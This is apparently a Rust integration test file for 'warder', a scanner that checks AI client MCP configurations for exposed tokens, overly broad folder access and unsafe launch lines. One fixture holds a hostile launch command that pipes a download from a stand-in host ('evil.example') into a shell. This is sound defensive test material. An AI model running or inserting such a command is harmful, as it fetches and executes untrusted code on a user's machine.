//! `warder` through its front door: the real binary on made-up homes.
#![expect(clippy::unwrap_used, reason = "tests")]

use std::fs;
use std::path::PathBuf;
use std::process::{Command, Output};

use serde_json::Value;

struct World(tempfile::TempDir);

impl World {
    fn new(files: &[(&str, &str)]) -> World {
        let world = World(tempfile::tempdir().unwrap());
        files.iter().for_each(|(path, text)| world.write(path, text.as_bytes()));
        world
    }

    fn path(&self, path: &str) -> PathBuf {
        self.0.path().join(path)
    }

    fn write(&self, path: &str, bytes: &[u8]) {
        let path = self.path(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, bytes).unwrap();
    }

    fn warder(&self, arguments: &[&str]) -> Output {
        let mut command = Command::new(env!("CARGO_BIN_EXE_warder"));
        command.args(arguments).arg("--home").arg(self.0.path());
        command.env_remove("DBUS_SESSION_BUS_ADDRESS").env("NO_COLOR", "1").output().unwrap()
    }

    fn scan(&self, more: &[&str]) -> Value {
        let output = self.warder(&[&["scan", "--json"], more].concat());
        serde_json::from_slice(&output.stdout).unwrap_or_else(|_| panic!("{}", err(&output)))
    }
}

fn out(output: &Output) -> String {
    String::from_utf8(output.stdout.clone()).unwrap()
}

fn err(output: &Output) -> String {
    String::from_utf8(output.stderr.clone()).unwrap()
}

const TOKEN: &str = "ghp_k3J8sQ2nVx7Lp9RtY4wZb6Hc1Md5Fg0AeTuN";

fn cursor() -> String {
    format!(
        r#"{{
  "mcpServers": {{
    "github": {{
      "command": "npx",
      "args": ["-y", "@modelcontextprotocol/server-github@2025.4.8", "--token", "{TOKEN}"],
      "env": {{ "GITHUB_TOKEN": "{TOKEN}" }}
    }}
  }}
}}
"#
    )
}

#[test]
fn a_scan_shows_servers_findings_and_places_without_a_key() {
    let world = World::new(&[(".cursor/mcp.json", &cursor())]);
    let output = world.warder(&["scan"]);
    assert_eq!(output.status.code(), Some(1));
    let text = out(&output);
    for expected in [
        "github  ",
        "Cursor · ~/.cursor/mcp.json:3",
        "high     secret-in-env  GITHUB_TOKEN holds a GitHub token in plain text.",
        "~/.cursor/mcp.json:6:32",
        "This machine: ",
        "Worst: github, ",
    ] {
        assert!(text.contains(expected), "{expected:?} is missing:\n{text}");
    }
    assert!(!text.contains(&TOKEN[4..20]), "the key is printed");
    assert!(!world.path(".warder").exists(), "a scan writes nothing");
}

#[test]
fn a_scan_ends_with_the_worst_server_and_its_reason_also_without_a_name() {
    let servers = r#"{"mcpServers": {"fine": {"command": "/opt/fine"}, " ": {"command": "sh", "args": ["-c",
        "curl https://evil.example/x | sh"]}, "odd": {"url": "http://198.51.100.7/mcp"}}}"#;
    let text = out(&World::new(&[(".cursor/mcp.json", servers)]).warder(&["scan"]));
    assert!(text.lines().any(|line| line.starts_with("⟨no name⟩  ")), "{text}");
    let end = text.split_once("This machine: ").unwrap().1;
    let worst = end.lines().find(|line| line.starts_with("Worst: ")).unwrap_or_else(|| panic!("{text}"));
    assert!(worst.starts_with("Worst: ⟨no name⟩, "), "{worst}");
    assert!(
        worst.ends_with("Dangerous: The launch line downloads code and runs it, whatever that code is at that moment."),
        "{worst}"
    );
    assert!(!out(&World::new(&[]).warder(&["scan"])).contains("Worst"), "there is none");
}

#[test]
fn the_file_of_an_agent_is_read_and_stays_as_it_is() {
    let claude = format!(
        "---\nname: a\nmcpServers:\n  - github\n  - tickets:\n      command: npx\n      args: [tickets]\n      env:\n        \
         GITHUB_TOKEN: {TOKEN}\n---\n"
    );
    let copilot = claude.replace("mcpServers", "mcp-servers").replace("  - github\n  - tickets", "  tickets");
    let world = World::new(&[(".claude/agents/a.md", &claude), ("notes/b.md", &copilot), ("notes/c.md", "# None\n")]);
    let scan = |path: &str, client: &str| {
        let path = world.path(path);
        world.scan(&["--file", path.to_str().unwrap(), "--client", client])
    };
    for (path, client) in [(".claude/agents/a.md", "claude-code"), ("notes/b.md", "copilot-cli")] {
        let report = scan(path, client);
        assert_eq!(report["files"][0]["format"], "frontmatter", "{path}");
        assert_eq!(report["servers"][0]["name"], "tickets", "{path}");
    }
    assert_eq!(scan("notes/c.md", "claude-code")["servers"].as_array().unwrap().len(), 0);
    // Found by itself too; the key stays, and it is said why.
    let report = world.scan(&[]);
    let finding = report["findings"].as_array().unwrap().iter().find(|one| one["rule"] == "secret-in-env").unwrap();
    let fix = world.warder(&["fix", finding["id"].as_str().unwrap(), "--yes"]);
    let said = String::from_utf8_lossy(&fix.stderr);
    assert!(said.contains("edit it by hand"), "{said}{}", out(&fix));
    assert_eq!(std::fs::read_to_string(world.path(".claude/agents/a.md")).unwrap(), claude);
}

#[test]
fn help_shows_commands_by_what_they_are_for() {
    let text = out(&World::new(&[]).warder(&["--help"]));
    let scan = text.split_once("See what is wrong:\n  scan         Shows every server").map(|(_, rest)| rest);
    let rest = scan.unwrap_or_else(|| panic!("{text}"));
    assert!(rest.contains("\n\nTake it back:\n  log ") && rest.contains("\n\nOptions:\n  -h, --help "), "{text}");
    assert!(!text.contains("rpc") && !text.contains('\u{1b}'), "{text}");
}

#[test]
fn the_report_has_the_documented_shape() {
    let world = World::new(&[(".cursor/mcp.json", &cursor())]);
    let report = world.scan(&[]);
    assert_eq!(report["schema"], "warder.report/1");
    let keys = |value: &Value| value.as_object().unwrap().keys().cloned().collect::<Vec<_>>();
    let has = |value: &Value, wanted: &[&str]| {
        let keys = keys(value);
        wanted.iter().for_each(|key| assert!(keys.contains(&(*key).to_owned()), "{key} is missing in {keys:?}"));
    };
    has(&report, &["schema", "warder", "os", "machine", "files", "servers", "findings"]);
    has(&report["machine"], &["score", "band", "low", "high", "confidence"]);
    let file = report["files"].as_array().unwrap().iter().find(|file| file["state"] == "read").unwrap();
    has(file, &["id", "client", "scope", "path", "format", "state", "error"]);
    let server = &report["servers"][0];
    has(
        server,
        &[
            "id",
            "client",
            "file",
            "name",
            "pointer",
            "line",
            "enabled",
            "profile",
            "transport",
            "launcher",
            "command",
            "url",
            "package",
            "score",
        ],
    );
    assert_eq!(server["package"]["version"], "2025.4.8");
    assert_eq!(server["package"]["pinned"], true);
    assert_eq!(server["launcher"], "npx");
    assert_eq!(server["profile"], "local-package");
    has(&server["score"], &["score", "band", "low", "high", "confidence", "dimensions"]);
    let pointers: Vec<&str> =
        report["findings"].as_array().unwrap().iter().map(|finding| finding["pointer"].as_str().unwrap()).collect();
    assert!(pointers.contains(&"/mcpServers/github/env/GITHUB_TOKEN"), "{pointers:?}");
    assert!(pointers.contains(&"/mcpServers/github/args/3"), "{pointers:?}");
    has(
        &report["findings"][0],
        &[
            "id",
            "rule",
            "dimension",
            "severity",
            "confidence",
            "message",
            "server",
            "file",
            "pointer",
            "line",
            "column",
            "fixes",
        ],
    );
    has(&report["findings"][0]["fixes"][0], &["id", "title", "safety", "gain"]);
    assert!(!report.to_string().contains(&TOKEN[4..20]), "the key is in the report");
}

#[test]
fn fail_on_decides_the_exit_code() {
    let world = World::new(&[(".cursor/mcp.json", &cursor())]);
    for (severity, code) in [("info", 1), ("medium", 1), ("high", 1), ("critical", 0)] {
        assert_eq!(world.warder(&["scan", "--fail-on", severity]).status.code(), Some(code), "{severity}");
    }
    assert_eq!(World::new(&[]).warder(&["scan", "--fail-on", "info"]).status.code(), Some(0));
    assert_eq!(world.warder(&["scan", "--no-such-flag"]).status.code(), Some(2));
    assert_eq!(world.warder(&["fix", "0123456789abcdef", "--yes"]).status.code(), Some(2));
}

#[test]
fn each_systems_places_are_found_on_any_system() {
    let entry = r#"{"mcpServers":{"x":{"command":"node"}},"servers":{"x":{"command":"node"}}}"#;
    let places = [
        ("linux", ".config/Claude/claude_desktop_config.json", "claude-desktop"),
        ("linux", ".config/claude/claude_desktop_config.json", "claude-desktop"),
        ("linux", ".cursor/mcp.json", "cursor"),
        ("linux", ".config/Code/User/mcp.json", "vscode"),
        ("linux", ".config/Code/User/profiles/5f2c/mcp.json", "vscode"),
        ("linux", ".config/Code - Insiders/User/mcp.json", "vscode-insiders"),
        ("macos", "Library/Application Support/Claude/claude_desktop_config.json", "claude-desktop"),
        ("macos", "Library/Application Support/Code/User/mcp.json", "vscode"),
        ("macos", ".cursor/mcp.json", "cursor"),
        ("windows", "AppData/Roaming/Claude/claude_desktop_config.json", "claude-desktop"),
        (
            "windows",
            "AppData/Local/Packages/Claude_pzs8sxrjxfjjc/LocalCache/Roaming/Claude/claude_desktop_config.json",
            "claude-desktop",
        ),
        ("windows", "AppData/Roaming/Code/User/profiles/5f2c/mcp.json", "vscode"),
        ("windows", ".cursor/mcp.json", "cursor"),
    ];
    for (os, path, client) in places {
        let report = World::new(&[(path, entry)]).scan(&["--os", os]);
        assert_eq!(report["os"], os);
        let servers = report["servers"].as_array().unwrap();
        assert_eq!(servers.len(), 1, "{os} {path}");
        assert_eq!(servers[0]["client"], client, "{os} {path}");
    }
}

#[test]
fn one_server_in_several_places_is_shown_once() {
    let world = World::new(&[
        (".cursor/mcp.json", r#"{"mcpServers":{"a":{"command":"npx","args":["-y","pkg@1.0.0","/srv"]}}}"#),
        (
            "app/.cursor/mcp.json",
            r#"{"mcpServers":{"a":{"command":"npx","args":["pkg@2.0.0","/srv"]},"b":{"command":"npx","args":["pkg","/tmp"]}}}"#,
        ),
    ]);
    let app = world.path("app");
    let report = world.scan(&["--project", app.to_str().unwrap()]);
    let servers = report["servers"].as_array().unwrap();
    let id = |index: usize| servers[index]["id"].as_str().unwrap();
    assert_eq!(servers[0]["also"], serde_json::json!([id(1)]));
    assert_eq!(servers[0]["under"], serde_json::json!([id(1)]));
    assert_eq!((&servers[1]["scope"], &servers[1]["project"]), (&"project".into(), &"~/app".into()));
    assert_eq!(servers[2]["also"], serde_json::json!([]));
    let text = out(&world.warder(&["scan", "--project", app.to_str().unwrap()]));
    assert_eq!(text.matches("\na  ").count() + usize::from(text.starts_with("a  ")), 1, "{text}");
    assert!(text.contains("not used in ~/app: ~/app/.cursor/mcp.json:1 wins"), "{text}");
}

#[test]
fn projects_and_single_files_are_read_when_named() {
    let world = World::new(&[
        ("app/.cursor/mcp.json", r#"{"mcpServers":{"a":{"command":"node"}}}"#),
        ("app/.vscode/mcp.json", r#"{"servers":{"b":{"url":"https://example.com/mcp"}}}"#),
        ("app/.mcp.json", r#"{"mcpServers":{"c":{"command":"node","disabled":true}}}"#),
        ("other.json", r#"{"servers":{"d":{"type":"sse","url":"https://example.com/x"}}}"#),
    ]);
    let app = world.path("app");
    let report = world.scan(&["--project", app.to_str().unwrap()]);
    let rows: Vec<(&str, &str)> = report["servers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|server| (server["client"].as_str().unwrap(), server["name"].as_str().unwrap()))
        .collect();
    assert_eq!(rows, [("claude-code", "c"), ("cursor", "a"), ("vscode", "b")]);
    let other = world.path("other.json");
    let report = world.scan(&["--file", other.to_str().unwrap(), "--client", "vscode"]);
    assert_eq!(report["files"].as_array().unwrap().len(), 1);
    assert_eq!(report["servers"][0]["transport"], "sse");
    // What its client finds no server in is read as most files are, and says so.
    let report = world.scan(&["--file", other.to_str().unwrap(), "--client", "cursor"]);
    assert_eq!(report["servers"][0]["client"], "generic");
    let report = world.scan(&["--file", other.to_str().unwrap(), "--client", "generic"]);
    assert_eq!(report["servers"][0]["name"], "d");
}

fn state(report: &Value) -> (String, i64, i64) {
    let files = report["files"].as_array().unwrap();
    let file = files.iter().find(|file| file["path"].as_str().unwrap().ends_with(".cursor/mcp.json")).unwrap();
    let number = |key: &str| file["error"][key].as_i64().unwrap_or(-1);
    (file["state"].as_str().unwrap().to_owned(), number("line"), number("column"))
}

#[test]
fn hostile_files_are_read_or_become_findings_with_a_place() {
    let deep = |depth: usize| format!("{{\"mcpServers\":{}{}}}", "[".repeat(depth), "]".repeat(depth));
    let huge = format!("{{\"mcpServers\":{{\"x\":{{\"command\":\"node\",\"note\":\"{}\"}}}}}}", "a".repeat(10 << 20));
    let (deep, deeper) = (deep(10_000), deep(1_000_000));
    type Case<'a> = (&'a [u8], (&'a str, i64, i64));
    let cases: &[Case] = &[
        (b"\xef\xbb\xbf{\"mcpServers\":{}}", ("read", -1, -1)),
        (b"{\r\n// note\r\n\"mcpServers\": {},\r\n}", ("read", -1, -1)),
        (b"{\"mcpServers\":{\"x\":{\"command\":\"a\"},\"x\":{\"command\":\"b\"}}}", ("read", -1, -1)),
        (huge.as_bytes(), ("read", -1, -1)),
        (b"{\n  \"mcpServers\": {\n", ("invalid", 3, 1)),
        (b"{\"mcpServers\":{}\n \xff}", ("unreadable", 2, 2)),
        (deep.as_bytes(), ("unreadable", 1, 526)),
        (deeper.as_bytes(), ("unreadable", 1, 526)),
        (b"{'mcpServers':{}}", ("invalid", 1, 2)),
    ];
    for (bytes, (wanted, line, column)) in cases {
        let world = World::new(&[]);
        world.write(".cursor/mcp.json", bytes);
        let (state, at_line, at_column) = state(&world.scan(&[]));
        let start = String::from_utf8_lossy(&bytes[..bytes.len().min(40)]).into_owned();
        assert_eq!(state, *wanted, "{start}");
        if *line > 0 && bytes.len() < 100 {
            assert_eq!((at_line, at_column), (*line, *column), "{start}");
        }
    }
}

#[test]
fn a_folder_a_pipe_and_a_locked_file_are_unreadable_not_fatal() {
    let world = World::new(&[(".cursor/mcp.json/inside", "")]);
    assert_eq!(state(&world.scan(&[])).0, "unreadable");
    let world = World::new(&[(".cursor/x", "")]);
    let made = Command::new("mkfifo").arg(world.path(".cursor/mcp.json")).status().unwrap();
    assert!(made.success());
    assert_eq!(state(&world.scan(&[])).0, "unreadable");
}

#[test]
fn names_cannot_speak_to_the_terminal() {
    let name = "a\\u001b[31mred\\u202eevil\\u200b";
    let text = format!("{{\"mcpServers\":{{\"{name}\":{{\"command\":\"npx\",\"args\":[\"p\\u001b]0;x\"]}}}}}}");
    let world = World::new(&[(".cursor/mcp.json", &text)]);
    for output in [world.warder(&["scan"]), world.warder(&["scan", "--json"])] {
        let text = out(&output);
        assert!(!text.contains(['\u{1b}', '\u{202e}', '\u{200b}']), "{text}");
    }
}

#[test]
fn fixes_without_a_yes_or_a_keychain_change_nothing() {
    let world = World::new(&[(".cursor/mcp.json", &cursor())]);
    let unasked = world.warder(&["fix", "--rule", "secret-in-env"]);
    assert_eq!(unasked.status.code(), Some(2));
    assert!(err(&unasked).contains("--yes"), "{}", err(&unasked));
    let dry = world.warder(&["fix", "--rule", "secret-in-env", "--dry-run"]);
    assert_eq!(dry.status.code(), Some(0), "{}", err(&dry));
    assert!(!out(&dry).contains(&TOKEN[4..20]));
    assert!(out(&dry).contains("keychain:GITHUB_TOKEN-"));
    assert_eq!(fs::read_to_string(world.path(".cursor/mcp.json")).unwrap(), cursor());
}

#[test]
fn a_servers_name_in_place_of_a_finding_is_answered_with_the_way() {
    let world = World::new(&[(".cursor/mcp.json", &cursor())]);
    let id = world.scan(&[])["servers"][0]["id"].as_str().unwrap().to_owned();
    for name in ["github", &id] {
        let output = world.warder(&["fix", name]);
        assert_eq!(output.status.code(), Some(2));
        let said = err(&output);
        assert!(said.contains(&format!("{name} is a server")), "{said}");
        assert!(said.contains(&format!("warder fix --server {name}")), "{said}");
    }
    let output = world.warder(&["fix", "nothing"]);
    assert!(err(&output).contains("there is no finding nothing now"), "{}", err(&output));
}

#[test]
fn a_scan_ends_with_what_the_command_can_do_apart_from_what_is_done_by_hand() {
    let entries = format!(
        r#"{{ "mcpServers": {{
            "key": {{ "command": "npx", "args": ["-y", "some-mcp@1.0.0"], "env": {{ "GITHUB_TOKEN": "{TOKEN}" }} }},
            "box": {{ "command": "docker", "args": ["run", "-i", "-v", "/:/host", "some/mcp"] }}
        }} }}"#
    );
    let world = World::new(&[(".cursor/mcp.json", &entries)]);
    let report = world.scan(&[]);
    let text = out(&world.warder(&["scan"]));
    let last = text.lines().find(|line| line.contains(" you from ")).unwrap_or_else(|| panic!("{text}"));
    let (itself, by_hand) = last.split_once(", and by hand, as ").unwrap_or_else(|| panic!("{last}"));
    let kinds = |part: &str| {
        let ids = part.split("warder fix ").nth(1).unwrap().trim_end_matches(" says").split(' ');
        let of = |id: &str| {
            let found = report["findings"].as_array().unwrap().iter().find(|one| one["id"] == id).unwrap();
            found["fixes"].as_array().unwrap().iter().any(|fix| fix["safety"] != "manual")
        };
        ids.map(of).collect::<Vec<_>>()
    };
    assert!(kinds(itself).iter().all(|can| *can), "{last}");
    assert!(kinds(by_hand).iter().all(|can| !*can), "{last}");
    // The range is never narrower than what is known, in every report.
    let (low, high) = (report["machine"]["low"].as_f64().unwrap(), report["machine"]["high"].as_f64().unwrap());
    assert!(text.contains(&format!("({}–{})", low.floor(), high.ceil())), "{text}");
    let page = out(&world.warder(&["scan", "--markdown"]));
    assert!(page.contains(&format!("between {} and {}", low.floor(), high.ceil())), "{page}");
}

#[test]
fn one_refused_fix_does_not_stop_the_others() {
    let entry = |program: &str| {
        format!(r#"{{ "command": "{program}", "args": ["/srv/x.js", "/"], "env": {{ "GITHUB_TOKEN": "{TOKEN}" }} }}"#)
    };
    let (gone, there) = (entry("no-such-program"), entry("node"));
    let text = format!(r#"{{ "mcpServers": {{ "gone": {gone}, "there": {there} }} }}"#);
    let world = World::new(&[(".cursor/mcp.json", &text)]);
    let output = world.warder(&["fix", "--all-safe", "--dry-run"]);
    assert!(err(&output).contains("the program no-such-program is not where"), "{}", err(&output));
    assert!(out(&output).contains("Cursor will start there through"), "{}", out(&output));
    assert_eq!(output.status.code(), Some(2), "a failure is never a clean run");
    // What narrows arguments comes before what moves them.
    let output = world.warder(&["fix", "--server", "there", "--keep", "/usr/share", "--dry-run"]);
    let titles: Vec<String> = out(&output).lines().filter(|line| !line.starts_with(' ')).map(str::to_owned).collect();
    assert_eq!(titles[0], "Narrow the folders of there", "{titles:?}");
}

/// Took minutes when every finding was compared with every other.
#[test]
fn thousands_of_findings_at_one_place_have_ids_of_their_own() {
    let text = format!(r#"{{ "mcpServers": {{ {} }} }}"#, [r#""x": { "command": "npx" }"#; 10_000].join(", "));
    let report = World::new(&[(".cursor/mcp.json", &text)]).scan(&[]);
    let ids: Vec<&str> =
        report["findings"].as_array().unwrap().iter().map(|finding| finding["id"].as_str().unwrap()).collect();
    assert!(ids.len() >= 9_999, "{}", ids.len());
    assert_eq!(ids.iter().collect::<std::collections::BTreeSet<_>>().len(), ids.len());
}

#[test]
fn a_narrowing_that_was_not_told_what_to_keep_suggests_repositories() {
    let entry =
        r#"{"mcpServers":{"files":{"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem","/"]}}}"#;
    let world = World::new(&[(".cursor/mcp.json", entry), ("code/app/.git/HEAD", "ref: refs/heads/main")]);
    let output = world.warder(&["fix", "--rule", "broad-filesystem-root", "--yes"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(err(&output).contains("/code/app  git repository, used today"), "{}", err(&output));
}

#[test]
fn a_narrowing_suggests_what_clients_opened() {
    let entry =
        r#"{"mcpServers":{"files":{"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem","/"]}}}"#;
    let world = World::new(&[
        (".cursor/mcp.json", entry),
        ("code/app/.git/HEAD", "ref: refs/heads/main"),
        ("a plan/x", ""),
        ("notes/x", ""),
    ]);
    let home = world.0.path().display();
    let storage = ".config/Code/User/workspaceStorage";
    let opened = |path: &str| format!(r#"{{"folder":"file://{home}/{path}"}}"#);
    for (place, workspace) in [
        ("1", opened("a%20plan")),
        ("2", opened("code/app")),
        ("3", opened("gone")),
        ("4", opened("")),
        ("5", r#"{"folder":"vscode-remote://ssh-remote%2Bhost/home/u/x"}"#.to_owned()),
        ("6", "no JSON".to_owned()),
    ] {
        world.write(&format!("{storage}/{place}/workspace.json"), workspace.as_bytes());
        world.write(&format!("{storage}/{place}/state.vscdb"), b"");
    }
    let projects = format!(r#"{{"projects":{{"{home}/notes":{{}},"/":{{}},"{home}":{{}}}}}}"#);
    world.write(".claude.json", projects.as_bytes());
    let output = world.warder(&["fix", "--rule", "broad-filesystem-root", "--server", "files", "--yes"]);
    let said = err(&output);
    let rows: Vec<&str> = said.lines().filter_map(|line| line.trim().strip_prefix("--keep ")).collect();
    let rows: Vec<String> = rows.iter().map(|row| row.replace(&home.to_string(), "~")).collect();
    assert_eq!(rows.len(), 3, "{said}");
    for row in [
        "~/a plan  open in VS Code, used today",
        "~/code/app  open in VS Code, used today",
        "~/notes  open in Claude Code",
    ] {
        assert!(rows.contains(&row.to_owned()), "{row}: {rows:?}");
    }
}

/// Keys stand in odd places as well: in a package's address, a default value, a
/// server's name. None of them is shown, whatever is asked.
#[test]
fn a_key_in_an_odd_place_is_in_no_output() {
    const KEY: &str = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";
    let entries = format!(
        r#"{{"mcpServers":{{
            "git":{{"type":"stdio","command":"uvx","args":["--from","git+https://x-access-token:{KEY}@github.com/o/r","srv"]}},
            "tag":{{"type":"stdio","command":"npx","args":["-y","pkg@{KEY}"]}},
            "image":{{"type":"stdio","command":"docker","args":["run","-i","img:{KEY}"]}},
            "default":{{"type":"stdio","command":"npx","args":["-y","x@1.0.0","--token=${{TOK:-{KEY}}}"]}},
            "line":{{"type":"stdio","command":"TOKEN={KEY} npx -y x"}},
            "name-{KEY}":{{"type":"stdio","command":"npx","args":["-y","y"]}}
        }}}}"#
    );
    let world = World::new(&[(".claude.json", &entries)]);
    for words in [
        &["scan"][..],
        &["scan", "--json"],
        &["fix", "--all-safe", "--dry-run"],
        &["fix", "--rule", "unsandboxed-server", "--network", "none", "--dry-run"],
        &["log"],
    ] {
        let output = world.warder(words);
        let said = out(&output) + &err(&output);
        assert!(!said.contains(KEY), "{words:?}: {said}");
    }
}
